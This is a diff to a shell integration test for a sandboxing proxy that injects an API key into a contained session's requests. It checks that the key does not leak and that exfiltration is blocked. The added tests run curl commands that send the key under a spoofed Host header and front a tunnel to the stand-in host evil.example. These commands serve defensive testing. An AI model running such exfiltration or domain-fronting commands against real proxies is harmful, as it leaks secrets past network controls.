@@ -6,7 +6,9 @@
 # TLS with handler's CA and sends the REAL key on over TLS it verifies; the stand-in
 # sent to another allowed host is refused as an exfiltration attempt and logged; and the
 # real key is found nowhere in the container (its processes' environments, its files,
-# what the upstream echoed back) nor in handlerd's log. Open mode adds a real network
+# what the upstream echoed back) nor in handlerd's log. A request through the key's
+# tunnel that names another host gets 421, and a tunnel whose ClientHello names another
+# host than its CONNECT is refused; both are logged. Open mode adds a real network
 # (slirp4netns) and still puts the key in; the host's loopback stays out of reach.
 #
 # The upstream is a Python HTTPS server on the host's loopback with a certificate from a
@@ -26,38 +28,11 @@ source "$here/session_env.sh"
 # The "public" CA the upstream's certificate comes from, and that certificate.
 pki="$work/pki"
 make_pki "$pki" api.anthropic.com
-# The upstream: logs each request's x-api-key and answers with it, the way a careless
-# error message quotes the key it got. Plain HTTP on a second port (other.test).
-cat > "$work/upstream.py" <<'PY'
-import http.server, json, ssl, sys, threading
-log = open(sys.argv[1], "a", buffering=1)
-class Handler(http.server.BaseHTTPRequestHandler):
-    protocol_version = "HTTP/1.1"
-    def reply(self):
-        length = int(self.headers.get("Content-Length") or 0)
-        if length: self.rfile.read(length)
-        key = self.headers.get("x-api-key", "")
-        log.write(json.dumps({"host": self.headers.get("Host"), "path": self.path, "key": key}) + "\n")
-        body = json.dumps({"error": "invalid x-api-key: " + key}).encode()
-        self.send_response(200)
-        self.send_header("Content-Type", "application/json")
-        self.send_header("Content-Length", str(len(body)))
-        self.end_headers()
-        self.wfile.write(body)
-    do_GET = do_POST = reply
-    def log_message(self, *args): pass
-tls = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
-context.load_cert_chain(sys.argv[2], sys.argv[3])
-tls.socket = context.wrap_socket(tls.socket, server_side=True)
-plain = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-print(tls.server_address[1], plain.server_address[1], flush=True)
-threading.Thread(target=plain.serve_forever, daemon=True).start()
-tls.serve_forever()
-PY
-python3 "$work/upstream.py" "$work/upstream.log" "$pki/api.anthropic.com.crt" "$pki/api.anthropic.com.key" >"$work/ports" 2>"$work/upstream.err" &
+# The upstream (key_upstream.py): logs each request's x-api-key and answers with it, HTTPS
+# with api.anthropic.com's certificate and plain HTTP on a second port (other.test).
+python3 "$here/key_upstream.py" "$work/upstream.log" "$pki/api.anthropic.com.crt" "$pki/api.anthropic.com.key" >"$work/ports" 2>"$work/upstream.err" &
 upstream_pid=$!
-trap 'status=$?; kill $upstream_pid 2>/dev/null; (exit $status); cleanup' EXIT
+trap 'status=$?; set +e; kill $upstream_pid 2>/dev/null; (exit $status); cleanup' EXIT
 for _ in $(seq 1 50); do [ -s "$work/ports" ] && break; sleep 0.1; done
 read -r tls_port plain_port < "$work/ports" || fail "the upstream did not start: $(cat "$work/upstream.err")"
 sed -i "s/TLS_PORT/$tls_port/" "$XDG_CONFIG_HOME/handler/config.toml"
@@ -113,13 +88,42 @@ done
 grep -aqF "$stand_in" "$project/env.dump" || fail "the stand-in is not in the processes' environments (the search would not have seen the key either)"
 if grep -rqF "$real_key" "$project" "$log"; then fail "the real key is in the project or handlerd's log"; fi
 
-id=$(handler session list --json | python3 -c 'import json,sys; print(json.load(sys.stdin)[-1]["id"])')
-net_log=$(handler network log "$id" --json)
+# The network log of the session that ran last.
+last_network_log() {
+  handler network log "$(handler session list --json | python3 -c 'import json,sys; print(json.load(sys.stdin)[-1]["id"])')" --json
+}
+net_log=$(last_network_log)
 echo "$net_log"
 grep -q '"method":"POST","path":"/v1/messages","verdict":"allow".*"secret":"anthropic-api-key"' <<<"$net_log" ||
   fail "the intercepted request and the key put into it are not in the log"
 grep -q '"host":"other.test".*"verdict":"deny","rule":"[^"]*","reason":"exfiltration attempt' <<<"$net_log" ||
   fail "the exfiltration attempt is not in the log"
+
+echo "== the proxy checks every name: a Host for another host gets 421, a ClientHello for another host is refused"
+# Through the tunnel to api.anthropic.com (whose key the proxy swaps in) a request that
+# names other.test in its Host, as a shared front would serve it; and a tunnel to
+# other.test whose TLS names evil.example (curl --connect-to keeps the URL's name in the
+# SNI and the Host, and sends the CONNECT to other.test), which is domain fronting.
+requests_before=$(wc -l < "$work/upstream.log")
+names=$(handler run coder -p "
+  echo misdirected=\$(curl -sS -o /dev/null -w '%{http_code}' https://api.anthropic.com/v1/messages \
+    -H 'Host: other.test' -H \"x-api-key: \$ANTHROPIC_API_KEY\" -d '{}' 2>&1)
+  echo fronted=\$(curl -sS -o /dev/null -w '%{http_code}' https://evil.example:$plain_port/ \
+    --connect-to evil.example:$plain_port:other.test:$plain_port 2>&1)
+  true" 2>&1) || fail "the session that tried other names failed: $names"
+echo "$names"
+grep -qx "misdirected=421" <<<"$names" || fail "a request for other.test through api.anthropic.com's tunnel was not answered 421"
+[ "$(wc -l < "$work/upstream.log")" -eq "$requests_before" ] ||
+  fail "a misdirected request reached the upstream: $(tail -n 2 "$work/upstream.log")"
+grep -q '"host": "other.test"' "$work/upstream.log" && fail "the upstream got a request for other.test with the key"
+grep -q "^fronted=.*unrecognized name.*000$" <<<"$names" ||
+  fail "a ClientHello for evil.example in a tunnel to other.test was not refused with a TLS alert"
+names_log=$(last_network_log)
+echo "$names_log"
+grep -q '"host":"api.anthropic.com".*"verdict":"deny".*a request for other.test:443 goes through a CONNECT of its own' <<<"$names_log" ||
+  fail "the misdirected request is not in the network log"
+grep -q '"host":"other.test".*"verdict":"deny".*ClientHello is for evil.example (SNI)' <<<"$names_log" ||
+  fail "the refused ClientHello is not in the network log"
 
 echo "== open mode: a real network besides the proxy, and keys still put in"
 api_port=$(handler status --json | python3 -c 'import json,sys; print(json.load(sys.stdin)["tcp"]["port"])')
@@ -143,8 +147,7 @@ local_run=$(handler run llm -p 'echo url=$OLLAMA_HOST; echo reply=$(wget -q -O- 
 echo "$local_run"
 grep -qx "url=http://ollama.handler.internal:$plain_port" <<<"$local_run" || fail "OLLAMA_HOST is not the proxied name"
 grep -q '^reply={"error"' <<<"$local_run" || fail "the local server was not reachable from the session"
-id=$(handler session list --json | python3 -c 'import json,sys; print(json.load(sys.stdin)[-1]["id"])')
-handler network log "$id" --json | grep -q "\"host\":\"ollama.handler.internal\",\"port\":$plain_port,\"method\":\"GET\",\"path\":\"/api/tags\",\"verdict\":\"allow\"" ||
+last_network_log | grep -q "\"host\":\"ollama.handler.internal\",\"port\":$plain_port,\"method\":\"GET\",\"path\":\"/api/tags\",\"verdict\":\"allow\"" ||
   fail "the request to the local server is not in the log as allowed"
 # The name leads to the server's port only: not to another port of the host's loopback
 # (handlerd's API), even in open mode, where every name passes.
